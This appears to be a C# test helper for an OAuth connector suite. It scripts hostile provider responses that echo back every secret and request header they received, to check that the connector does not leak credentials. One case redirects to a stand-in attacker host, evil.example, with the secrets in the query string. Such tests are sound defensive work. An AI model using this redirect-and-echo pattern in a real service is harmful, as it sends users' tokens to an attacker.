using System.Text.Json;
using Igniter.Connectors.Tests.OAuth;
using Microsoft.Extensions.Time.Testing;

namespace Igniter.Connectors.Tests.Leaks;

/// <summary>What a provider may answer that fails, or would like to know what else it can make others write down.</summary>
internal static class UnkindAnswers
{
    public static TheoryData<string> Kinds =>
    [
        "error", "error object", "description", "server error", "HTML", "malformed", "form", "not a token", "list", "reset", "hung", "redirect",
    ];

    /// <summary>An answer that holds everything the provider knows when it is asked, the request itself included.</summary>
    public static ScriptedAnswer Make(string how, LeakHunt hunt, FakeTimeProvider time)
    {
        string all = hunt.All;
        ScriptedAnswer answer = how switch
        {
            "error" => new(400, """{"error":"ALL","error_description":"ALL"}"""),
            "error object" => new(401, """{"error":{"type":"ALL","message":"ALL"},"errors":[{"message":"ALL"}]}"""),
            "description" => new(400, """{"error":"invalid_request","error_description":"ALL","message":"ALL"}"""),
            "server error" => new(503, "ALL", "text/plain") { Headers = { ["X-Debug"] = all } },
            "HTML" => new(500, "<html>ALL</html>", "text/html"),
            "malformed" => new(200, """{"access_token":"ALL",""" + '"'),
            "form" => new(400, "error=ALL&error_description=ALL", "application/x-www-form-urlencoded"),
            "not a token" => new(200, """{"access_token":"\u0001ALL","sub":[{"id":"ALL"}]}"""),
            "list" => new(200, """["ALL"]"""),
            "reset" => new(200) { Reset = true },
            "redirect" => new(302, "ALL") { Headers = { ["Location"] = $"https://evil.example/?all={Uri.EscapeDataString(all)}" } },
            _ => new(200)
            {
                Before = async cancellationToken =>
                {
                    time.Advance(TimeSpan.FromSeconds(31));
                    await Task.Delay(Timeout.Infinite, cancellationToken);
                },
            },
        };
        return answer with
        {
            Fill = (request, body) =>
            {
                string known = $"{hunt.All} {request.Body} {string.Join(' ', request.Headers.Values)}";
                return body.Replace("ALL", how == "form" ? Uri.EscapeDataString(known) : JsonEncodedText.Encode(known).ToString(), StringComparison.Ordinal);
            },
        };
    }
}
